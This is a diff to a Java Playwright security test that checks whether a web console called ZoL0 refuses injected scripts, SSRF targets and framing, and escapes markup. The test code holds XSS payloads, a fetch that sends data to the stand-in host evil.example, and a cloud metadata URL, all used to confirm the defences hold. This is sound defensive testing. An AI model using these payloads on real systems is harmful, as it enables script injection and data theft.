@@ -3,7 +3,11 @@ package io.zol0.ui;
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.microsoft.playwright.Browser;
+import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.Frame;
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.options.AriaRole;
 import com.microsoft.playwright.options.ColorScheme;
 import com.sun.net.httpserver.HttpServer;
 import java.io.IOException;
@@ -13,6 +17,8 @@ import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -32,6 +38,7 @@ class HardeningIT {
             nobody_is_sent_to_another_site_by_the_login(zol0, browser);
             what_was_injected_into_a_page_does_not_run(zol0, browser);
             a_call_that_looks_like_markup_is_shown_as_text(zol0, browser, stranger);
+            whatever_others_can_write_is_shown_as_text(zol0, browser);
             no_other_site_shows_the_console_in_a_frame(zol0, browser, stranger);
         } finally {
             stranger.stop(0);
@@ -57,19 +64,19 @@ class HardeningIT {
             tab.go("login");
             assertThat(tab.page.locator("input[name=username]")).isVisible();
             tab.page.evaluate("""
-                    window.refused = [];
-                    document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective));
-                    const script = document.createElement('script');
-                    script.textContent = 'window.hacked = 1';
-                    document.body.append(script);
-                    const far = document.createElement('script');
-                    far.src = 'https://evil.example/x.js';
-                    document.body.append(far);
-                    const holder = document.createElement('div');
-                    holder.innerHTML = '<img src="data:," onerror="window.hacked = 1">';
-                    document.body.append(holder);
-                    fetch('https://evil.example/?stolen').catch(() => {});
-                    """);
+                window.refused = [];
+                document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective));
+                const script = document.createElement('script');
+                script.textContent = 'window.hacked = 1';
+                document.body.append(script);
+                const far = document.createElement('script');
+                far.src = 'https://evil.example/x.js';
+                document.body.append(far);
+                const holder = document.createElement('div');
+                holder.innerHTML = '<img src="data:," onerror="window.hacked = 1">';
+                document.body.append(holder);
+                fetch('https://evil.example/?stolen').catch(() => {});
+                """);
             tab.page.waitForFunction("window.refused.length >= 4");
             assertThat(tab.page.evaluate("window.hacked === undefined")).isEqualTo(true);
             @SuppressWarnings("unchecked")
@@ -86,7 +93,7 @@ class HardeningIT {
             tab.page.getByLabel("Name").fill("mine");
             tab.page.getByLabel("Base URL").fill("http://169.254.169.254/latest");
             tab.page.getByLabel("Base URL").press("Tab");
-            assertThat(tab.page.getByText("which ZoL0 never calls")).isVisible();
+            assertThat(tab.page.getByText("which ZoL0 never calls").first()).isVisible();
             tab.page
                     .getByLabel("Base URL")
                     .fill("http://127.0.0.1:" + stranger.getAddress().getPort());
@@ -99,6 +106,56 @@ class HardeningIT {
             assertThat(tab.page.evaluate("window.hacked === undefined")).isEqualTo(true);
             tab.requireClean();
         }
+    }
+
+    /** What is no name is refused by the rules of names, so markup comes in by what is free to be anything. */
+    private void whatever_others_can_write_is_shown_as_text(RunningJar zol0, ConsoleBrowser browser) throws Exception {
+        String markup = "<img src=x onerror=window.hacked=1>";
+        String escaped = "%3Cimg%20src=x%20onerror=window.hacked=1%3E";
+        call(zol0, "/mine/fails/" + MARKUP + "?q=" + MARKUP, "X-ZoL0-Caller: " + markup);
+        call(zol0, "/mine/fails/" + MARKUP + "?q=" + MARKUP, "User-Agent: " + markup);
+        try (BrowserContext odd = browser.browser().newContext(new Browser.NewContextOptions().setUserAgent(markup));
+                Tab tab = browser.open(zol0, 1440, ColorScheme.LIGHT)) {
+            Page login = odd.newPage();
+            for (String name : List.of(markup, "admin")) {
+                login.navigate(zol0.console() + "/login");
+                login.locator("input[name=username]").fill(name);
+                login.locator("input[name=password]").fill(CHOSEN);
+                login.locator("input[name=password]").press("Enter");
+            }
+            assertThat(login.getByRole(AriaRole.HEADING, new Page.GetByRoleOptions().setName("Overview")))
+                    .isVisible();
+
+            tab.login("admin", CHOSEN);
+            assertThat(tab.page.getByText("onerror").first()).isVisible();
+            requireText(tab);
+            tab.page.getByText("onerror").first().click();
+            assertThat(tab.page.getByText("Failed and refused calls").first()).isVisible();
+            assertThat(tab.page.getByText("onerror").first()).isVisible();
+            requireText(tab);
+            tab.go("account");
+            assertThat(tab.page.getByText(markup)).isVisible();
+            requireText(tab);
+            tab.go("audit");
+            // What is typed for a name and is none is not written down: it may be a password.
+            assertThat(tab.page.getByText("Sign-in failed").first()).isVisible();
+            requireText(tab);
+            tab.go("audit?subject=" + escaped + "&who=" + escaped);
+            assertThat(tab.page.getByText("Nothing matches the filter")).isVisible();
+            requireText(tab);
+            tab.go("endpoints?filter=" + escaped);
+            assertThat(tab.page.getByLabel("Filter")).hasValue(markup);
+            requireText(tab);
+            tab.go("nowhere/" + escaped);
+            assertThat(tab.page.getByText("There is no page at")).containsText("onerror");
+            requireText(tab);
+            tab.requireClean();
+        }
+    }
+
+    private static void requireText(Tab tab) {
+        assertThat(tab.page.locator("img[src=x]")).hasCount(0);
+        assertThat(tab.page.evaluate("window.hacked === undefined")).isEqualTo(true);
     }
 
     private void no_other_site_shows_the_console_in_a_frame(
@@ -121,7 +178,8 @@ class HardeningIT {
             byte[] body =
                     (framing ? "<iframe src='" + query + "/login'></iframe>" : "{}").getBytes(StandardCharsets.UTF_8);
             exchange.getResponseHeaders().set("Content-Type", framing ? "text/html" : "application/json");
-            exchange.sendResponseHeaders(200, body.length);
+            exchange.sendResponseHeaders(
+                    exchange.getRequestURI().getPath().startsWith("/fails") ? 500 : 200, body.length);
             exchange.getResponseBody().write(body);
             exchange.close();
         });
@@ -130,10 +188,14 @@ class HardeningIT {
     }
 
     /** By a bare socket: a client that knows better would not say this. */
-    private static void call(RunningJar zol0, String target) throws IOException {
+    private static void call(RunningJar zol0, String target, String... fields) throws IOException {
         try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), zol0.gatewayPort())) {
             socket.getOutputStream()
-                    .write(("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
+                    .write(("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
+                                    + Stream.of(fields)
+                                            .map(field -> field + "\r\n")
+                                            .collect(Collectors.joining())
+                                    + "\r\n")
                             .getBytes(StandardCharsets.US_ASCII));
             byte[] answer = socket.getInputStream().readAllBytes();
             assertThat(new String(answer, StandardCharsets.ISO_8859_1)).startsWith("HTTP/1.1 ");
